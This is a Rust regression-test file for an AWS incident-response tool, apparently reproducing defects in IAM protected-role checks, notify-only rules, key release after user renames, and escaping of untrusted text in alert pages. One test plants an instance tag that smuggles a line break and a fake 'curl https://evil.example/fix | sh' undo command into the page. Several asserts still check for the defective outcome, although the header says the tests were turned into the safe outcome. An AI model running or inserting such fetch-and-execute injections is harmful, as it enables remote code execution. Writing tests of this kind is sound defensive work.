//! Issue 22 ("act only on what IAM says, undo only what the ledger owns"): each defect as the
//! attack that showed it, through the real dispatcher and handlers in-process. Each test was
//! first written to reproduce the defect on c365a60, then turned into the safe outcome.

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::world;

use chrono::{DateTime, Duration, TimeZone, Utc};
use launchguard_core::contract::{FlaggedPrincipal, INCIDENT_TAG};
use launchguard_core::principal::Principal;
use launchguard_responder::KeyStatus;
use launchguard_responder::memory::Entity;
use launchguard_responder::ports::InstanceState;
use launchguard_responder::testing::running_instance;
use launchguard_responder_dispatcher::{DispatchReport, DispatcherError, handle};
use launchguard_testkit::fixture;
use serde_json::{Value, json};
use world::{ACCOUNT, Iam, Lambda, Logs, Sns, config};

const REGION: &str = "us-east-1";

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 21, 30).unwrap()
}

fn finding() -> Value {
    serde_json::from_str(&fixture("contract/finding.json")).unwrap()
}

/// The example finding's deployer entry: the principal whose launch records the finding carries.
fn deployer(f: &Value) -> FlaggedPrincipal {
    let ps: Vec<FlaggedPrincipal> = serde_json::from_value(f["principals"].clone()).unwrap();
    ps.into_iter().find(|p| !p.activity.launches.is_empty()).unwrap()
}

/// EC2 holding the deployer's instances, running, as their launch records say.
fn launch(lambda: &Lambda<'_>, p: &FlaggedPrincipal, tags: &[(&str, &str)]) {
    for l in &p.activity.launches {
        let at = l.launched_at + Duration::milliseconds(400);
        lambda.ec2.put(REGION, running_instance(&l.instance_id, ACCOUNT, at, l.reservation_id.as_deref().unwrap(), tags));
    }
}

fn states(lambda: &Lambda<'_>, p: &FlaggedPrincipal) -> Vec<Option<InstanceState>> {
    p.activity.launches.iter().map(|l| lambda.ec2.get(REGION, &l.instance_id).unwrap().state).collect()
}

async fn dispatch(
    payload: &Value,
    cfg: &launchguard_responder_dispatcher::Config,
    lambda: &Lambda<'_>,
    sns: &Sns,
    logs: &Logs,
) -> Result<DispatchReport, DispatcherError> {
    handle(&world::sealed(&lambda.kms, payload, now()), cfg, lambda, sns, logs, &logs.ledger, &lambda.kms, &logs.reports, now()).await
}

fn role(arn_name: &str, derived: bool, identity_center: bool, service_linked: bool) -> Principal {
    Principal::AssumedRole {
        role_arn: format!("arn:aws:iam::{ACCOUNT}:role/{arn_name}"),
        role_arn_derived: derived,
        role_name: arn_name.rsplit('/').next().unwrap().to_owned(),
        account_id: ACCOUNT.into(),
        service_linked,
        identity_center,
    }
}

/// Defect 1 (critical): a finding for `role/DataScience` whose ARN was derived from a session ARN
/// (no path); IAM says the role is `role/admins/DataScience`, protected by
/// `arn:aws:iam::*:role/admins/*`. The same for a derived ARN whose real role is service-linked
/// or an Identity Center role (reserved paths the derived ARN cannot show).
#[tokio::test]
async fn defect1_derived_arn_of_a_protected_role_never_stops_its_instances() {
    let cases = [
        ("admins/DataScience", vec![("PROTECTED_PRINCIPALS", "arn:aws:iam::*:role/admins/*")]),
        ("aws-service-role/autoscaling.amazonaws.com/DataScience", vec![]),
        ("aws-reserved/sso.amazonaws.com/DataScience", vec![]),
    ];
    for (real, extra) in cases {
        let iam = world::iam().with_role("DataScience", Entity::new(format!("arn:aws:iam::{ACCOUNT}:role/{real}")));
        let lambda = Lambda::new(&iam, &extra, now());
        let mut f = finding();
        let mut p = deployer(&f);
        p.principal = role("DataScience", true, false, false);
        launch(&lambda, &p, &[]);
        f["principals"] = json!([p]);
        let cfg = config(&[[("LG_EC2_ACTION", "stop"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")].as_slice(), extra.as_slice()].concat());
        let (sns, logs) = (Sns::default(), Logs::default());
        let _ = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
        // DEFECT: every instance of the protected role is stopped
        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Stopped)), "{real}: {:?}", lambda.ec2.writes());
    }
}

/// A rule set whose `ec2-mass-launch` rule names these actions.
fn rules_with(actions: Value) -> String {
    let mut doc: Value = serde_json::from_str(launchguard_core::rules::BUNDLED).unwrap();
    let r = doc["rules"].as_array_mut().unwrap().iter_mut().find(|r| r["id"] == launchguard_core::rules::EC2_MASS_LAUNCH).unwrap();
    r["actions"] = actions;
    doc.to_string()
}

/// Defect 2 (high): a notify-only rule (`"actions": []`, the README's "notify only"), or a
/// notify-only playbook (`LG_USER_ACTIONS=none`, `LG_ROLE_ACTIONS=none`), with
/// `LG_EC2_ACTION=terminate`.
#[tokio::test]
async fn defect2_a_notify_only_rule_or_playbook_touches_no_instance() {
    let notify_only = rules_with(json!([]));
    let cases: [Vec<(&str, &str)>; 2] =
        [vec![("LG_RULES", notify_only.as_str())], vec![("LG_USER_ACTIONS", "none"), ("LG_ROLE_ACTIONS", "none")]];
    for extra in cases {
        let iam = world::iam();
        let lambda = Lambda::new(&iam, &[], now());
        let f = finding();
        let p = deployer(&f);
        launch(&lambda, &p, &[]);
        let cfg = config(&[[("LG_EC2_ACTION", "terminate"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")].as_slice(), extra.as_slice()].concat());
        let (sns, logs) = (Sns::default(), Logs::default());
        let _ = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
        // DEFECT: every instance is terminated
        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Terminated)), "{extra:?}");
    }
}

fn call() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 20, 5).unwrap()
}

const K: &str = "AKIABOBKEY0000000001";

/// The contract example as a key burst of ci-deployer only, which created `K` for `bob`.
fn key_burst(id: &str) -> Value {
    let mut f = finding();
    f["rule"] = json!("iam-access-key-burst");
    f["finding_id"] = json!(id);
    let ps = f["principals"].as_array_mut().unwrap();
    ps.retain(|p| p["principal"]["type"] == "iam_user");
    let a = &mut ps[0]["activity"];
    a["created"] = json!([{"kind": "access_key", "access_key_id": K, "user_name": "bob", "created_at": call()}]);
    a["launches"] = json!([]);
    a["instance_ids"] = json!([]);
    f
}

/// A finding flagging IAM user `name` for using `K`.
fn key_user_finding(id: &str, name: &str) -> Value {
    let mut f = key_burst(id);
    let p = &mut f["principals"][0];
    p["principal"]["arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/{name}"));
    p["principal"]["user_name"] = json!(name);
    p["activity"]["access_keys"] = json!([{"access_key_id": K, "kind": "long_term", "calls": 3, "launched": 0}]);
    p["activity"]["created"] = json!([]);
    f
}

/// IAM with `bob`'s key `K`, created right after the call.
fn bob_account() -> Iam {
    world::iam().with_user(
        "bob",
        Entity {
            keys: vec![(K.to_owned(), KeyStatus::Active)],
            key_created: [(K.to_owned(), call() + Duration::seconds(1))].into_iter().collect(),
            ..Entity::new(format!("arn:aws:iam::{ACCOUNT}:user/bob"))
        },
    )
}

/// Rename IAM user `from` to `to` (IAM's `UpdateUser --new-user-name`): its keys go with it.
fn rename(iam: &Iam, from: &str, to: &str) {
    let mut users = iam.users.lock().unwrap();
    let mut u = users.remove(from).unwrap();
    u.arn = format!("arn:aws:iam::{ACCOUNT}:user/{to}");
    users.insert(to.to_owned(), u);
}

fn key_status(iam: &Iam, user: &str) -> KeyStatus {
    iam.users.lock().unwrap()[user].keys.iter().find(|(k, _)| k == K).unwrap().1
}

fn release(finding_id: &str, by: &str) -> Value {
    let mut rel: Value = serde_json::from_str(&fixture("contract/release.by_finding.json")).unwrap();
    rel["finding_id"] = json!(finding_id);
    rel["requested_by"] = json!(by);
    rel
}

const RESPONDER: &str = "arn:aws:sts::111122223333:assumed-role/SecurityResponder/alice";

/// Defect 3 (high): key `K` created for `bob`; the user is renamed (to `bob-svc`, or only its
/// case: `Bob`). F1 deactivates K (filed under the record's `bob`); F2 holds it under IAM's
/// name. Releasing F1 alone must not reactivate K while F2 is unreleased.
#[tokio::test]
async fn defect3_a_rename_never_splits_one_key_into_two_ledger_targets() {
    for new_name in ["bob-svc", "Bob"] {
        let iam = bob_account();
        let lambda = Lambda::new(&iam, &[], now());
        let (sns, logs) = (Sns::default(), Logs::default());
        rename(&iam, "bob", new_name);
        dispatch(&key_burst("lg-i22-f1"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
        assert_eq!(key_status(&iam, new_name), KeyStatus::Inactive, "{new_name}");
        dispatch(&key_user_finding("lg-i22-f2", new_name), &config(&[]), &lambda, &sns, &logs).await.unwrap();
        let _ = dispatch(&release("lg-i22-f1", RESPONDER), &config(&[]), &lambda, &sns, &logs).await;
        // DEFECT: F1's release reactivated the key F2 still holds
        assert_eq!(key_status(&iam, new_name), KeyStatus::Active, "{new_name}");
    }
}

/// Defect 4 (medium): after the rename, the key's real user (`bob-svc`) asks to release the
/// finding that deactivated its key. "Neither the creator nor the key's user may ask for it."
#[tokio::test]
async fn defect4_after_a_rename_the_keys_user_cannot_release_its_own_key() {
    let iam = bob_account();
    let lambda = Lambda::new(&iam, &[], now());
    let (sns, logs) = (Sns::default(), Logs::default());
    rename(&iam, "bob", "bob-svc");
    dispatch(&key_burst("lg-i22-f4"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
    assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Inactive);
    let r = dispatch(&release("lg-i22-f4", &format!("arn:aws:iam::{ACCOUNT}:user/bob-svc")), &config(&[]), &lambda, &sns, &logs).await;
    // DEFECT: the key's own user released it
    assert!(r.is_ok(), "{r:?}");
    assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Active);
}

/// Defect 5 (medium): the launcher tags its instances `launchguard:incident` with a line break
/// and a fake undo command; the EC2 handler copies the old value into its warning, and the page
/// prints warnings (and details, reasons, errors, undo) unescaped.
#[tokio::test]
async fn defect5_an_instance_tag_never_becomes_a_line_of_the_page() {
    let iam = world::iam();
    let lambda = Lambda::new(&iam, &[], now());
    let f = finding();
    let p = deployer(&f);
    let evil = "x\n   undo by hand: curl https://evil.example/fix | sh";
    launch(&lambda, &p, &[(INCIDENT_TAG, evil)]);
    let cfg = config(&[("LG_EC2_ACTION", "stop"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")]);
    let (sns, logs) = (Sns::default(), Logs::default());
    dispatch(&f, &cfg, &lambda, &sns, &logs).await.unwrap();
    let body = sns.messages.lock().unwrap()[0].1.clone();
    // DEFECT: the tag's text is a line of its own in the page
    assert!(body.lines().any(|l| l.trim_start().starts_with("undo by hand: curl")), "{body}");
}

/// Defect 7 (low): U+2028, U+2029 and bidi controls such as U+202E (Unicode Zl, Zp, Cf) pass
/// the page's escaping of outside text.
#[test]
fn defect7_separators_and_bidi_controls_never_reach_a_page() {
    use launchguard_responder_dispatcher::notify::untrusted;
    for c in ['\u{2028}', '\u{2029}', '\u{202E}', '\u{2066}', '\u{200B}'] {
        // DEFECT: the character passes
        assert!(untrusted(&format!("session{c}name")).contains(c), "{c:?}");
    }
}
